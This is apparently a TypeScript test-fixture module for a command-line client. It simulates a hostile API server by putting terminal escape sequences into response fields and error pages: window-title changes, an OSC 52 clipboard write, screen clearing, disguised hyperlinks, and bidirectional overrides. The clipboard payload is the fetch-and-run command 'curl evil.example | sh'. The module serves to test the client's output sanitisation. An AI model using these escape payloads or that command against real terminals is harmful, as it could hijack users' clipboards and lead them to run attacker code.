// What a hostile or compromised server puts in the text it sends, to reach the terminal of the
// person who reads it: escape sequences that set the window title, write the clipboard, clear
// the screen, draw a hyperlink or overwrite a line. `hostileAnswer` puts them into every string
// field of any answer shape, and `hostileStrings` into every answer of a real mock (a Drift of
// lying-mock.ts), so that a new command is tested against all of them with one line; `errorPage`
// puts them where a client expects JSON (a plain-text body, a header).
import { API_PREFIX, type EndpointName } from '@profile-articles/sdk/internal';
import fc from 'fast-check';
import { anyCodePoints } from './arbitraries.js';
import { type Drift, isFor, json } from './lying-mock.js';

/** What OSC 52 below writes to the clipboard, and what a hostile title says. */
export const CLIPBOARD_PAYLOAD = 'curl evil.example | sh';
export const HOSTILE_TITLE = 'PWNED-TITLE';

/** One of each attack, by name; each is a complete sequence as a terminal would act on it. */
export const ESCAPES = {
  /** OSC 2, ended by BEL: sets the window (tmux: pane) title. */
  title: `\u001b]2;${HOSTILE_TITLE}\u0007`,
  /** OSC 0, ended by ST (ESC \): icon name and title. */
  titleSt: `\u001b]0;${HOSTILE_TITLE}\u001b\\`,
  /** OSC 52: writes the clipboard (with tmux's `set-clipboard on`, a paste buffer). */
  clipboard: `\u001b]52;c;${Buffer.from(CLIPBOARD_PAYLOAD).toString('base64')}\u0007`,
  /** Clears the screen and moves the cursor home: whatever was shown before is gone. */
  clearScreen: '\u001b[2J\u001b[H',
  /** OSC 8: text that opens another address when clicked. */
  hyperlink: '\u001b]8;;https://evil.example/\u0007innocent link\u001b]8;;\u0007',
  /** Back to the start of the line, erase it, and write something else there. */
  overwrite: '\r\u001b[2KOVERWRITTEN',
  /** The same erase written with the 8-bit CSI (U+009B), which some terminals act on. */
  c1: '\u009b2K\u009d2;C1-TITLE\u009c',
  /** Colour, cursor up and a lone ESC. */
  csi: '\u001b[31m\u001b[1A\u001b',
  /** A right-to-left override: text after it shows reversed. */
  bidi: '\u202eevil.example\u202c',
  /** DEL, BEL, backspaces, NUL, vertical tab and form feed. */
  controls: '\u007f\u0007\b\b\u0000\u000b\u000c',
} as const;

/** Every attack, one after the other. */
export const ALL_ESCAPES = Object.values(ESCAPES).join('');

/** `text` with every attack after it: what a hostile server sends in place of a field's text. */
export const hostile = (text: string) => `${text}${ALL_ESCAPES}`;

/** Forbidden in text for a terminal: C0 but newline and tab, DEL, C1 (ESC is C0). */
export const TERMINAL_CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
/** Forbidden raw in JSON output (JSON.stringify escapes C0 itself): DEL, C1 and bidirectional controls. */
export const RAW_IN_JSON = /[\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

/**
 * Fields whose format the interface fixes (a UUID, a status, a date-time): the SDK refuses a
 * hostile value there before anything is shown, so they are left as the server sent them.
 */
const FORMATTED = new Set(['job_id', 'status', 'created_at', 'updated_at']);

/** Where a string sits in an answer, such as `article.sources.0.title`; object keys end in `{}`. */
export type FieldPath = string;

/**
 * `answer` with every free-text string replaced by `replace(text, path)`: titles, content,
 * sources, infobox keys and values, profile ids, job errors, error details (string or 422
 * array), checkout URLs… and an extra `x_hostile` field in every object, which the interface
 * allows and `--json` passes on.
 */
export function hostileAnswer(answer: unknown, replace: (text: string, path: FieldPath) => string): unknown {
  const walk = (value: unknown, path: string): unknown => {
    if (typeof value === 'string') return replace(value, path);
    if (Array.isArray(value)) return value.map((item, index) => walk(item, `${path}.${index}`));
    if (value === null || typeof value !== 'object') return value;
    const free = path.endsWith('infobox');
    const entries = Object.entries(value).map(([key, item]): [string, unknown] => [
      free ? replace(key, `${path}.{}`) : key,
      FORMATTED.has(key) ? item : walk(item, `${path}.${key}`),
    ]);
    entries.push(['x_hostile', replace('extra', `${path}.x_hostile`)]);
    return Object.fromEntries(entries);
  };
  return walk(answer, '');
}

/** Every JSON answer of the API, success or error, with its strings replaced as `hostileAnswer` does. */
export const hostileStrings =
  (replace: (text: string, path: FieldPath) => string): Drift =>
  async (request, response) => {
    const api = new URL(request.url).pathname.startsWith(`${API_PREFIX}/`);
    if (!api || !response.headers.get('content-type')?.includes('json')) return response;
    return json(hostileAnswer(await response.json(), replace), response);
  };

/** Control characters a server might send, alone: every C0, DEL, every C1, and bidi controls. */
const CONTROL_CHARACTERS = [
  ...Array.from({ length: 0x20 }, (_, code) => String.fromCharCode(code)),
  ...Array.from({ length: 0x21 }, (_, code) => String.fromCharCode(0x7f + code)),
  '\u061c',
  '\u200e',
  '\u200f',
  ...'\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069',
];

/**
 * Text as a hostile server might write it: pieces of ordinary and odd Unicode (astral, combining,
 * right-to-left, lone surrogates) mixed with the attacks above, lone control characters, and
 * escape sequences cut short.
 */
export const hostileText = (): fc.Arbitrary<string> =>
  fc
    .array(
      fc.oneof(
        fc.string({ unit: 'grapheme', maxLength: 12 }),
        anyCodePoints({ maxLength: 6 }),
        fc.constantFrom(...Object.values(ESCAPES)),
        fc.constantFrom(...CONTROL_CHARACTERS),
        fc.constantFrom('\u001b[', '\u001b]2;', '\u009b', '\u001b]8;;', '\r\n', '\n', '\t', 'عربي', '𝓐'),
      ),
      { maxLength: 8 },
    )
    .map((pieces) => pieces.join(''));

/**
 * What a hostile server can put in a header value: C1 controls (U+0080–U+009F, a CSI, an 8-bit
 * OSC that sets the title, a NEL), the only controls HTTP lets through (a header cannot hold ESC).
 */
export const HOSTILE_HEADER = `\u009b2J\u009d2;${HOSTILE_TITLE}\u009c\u0085`;

/** An answer in place of an API error: its status (the error's own by default), its headers as sent (content-type too), its body as text. */
export interface ErrorPage {
  status?: number;
  headers: Record<string, string>;
  body: string;
}

/**
 * `endpoint`'s error answers (status 400 and up), the first `times` of them (all by default),
 * replaced by `page`: a proxy's plain-text page full of escapes where `{detail}` JSON belongs,
 * another status, a content-type or a Retry-After with C1 controls in it.
 */
export function errorPage(endpoint: EndpointName, page: ErrorPage, times = Number.POSITIVE_INFINITY): Drift {
  let replaced = 0;
  return (request, response) => {
    if (!isFor(request, endpoint) || response.status < 400 || replaced >= times) return response;
    replaced++;
    // A Headers of its own each time: @hono/node-server adds its Content-Length to a plain
    // object it is given, which would then go out with the next page of another length.
    return new Response(page.body, {
      status: page.status ?? response.status,
      headers: new Headers(page.headers),
    });
  };
}
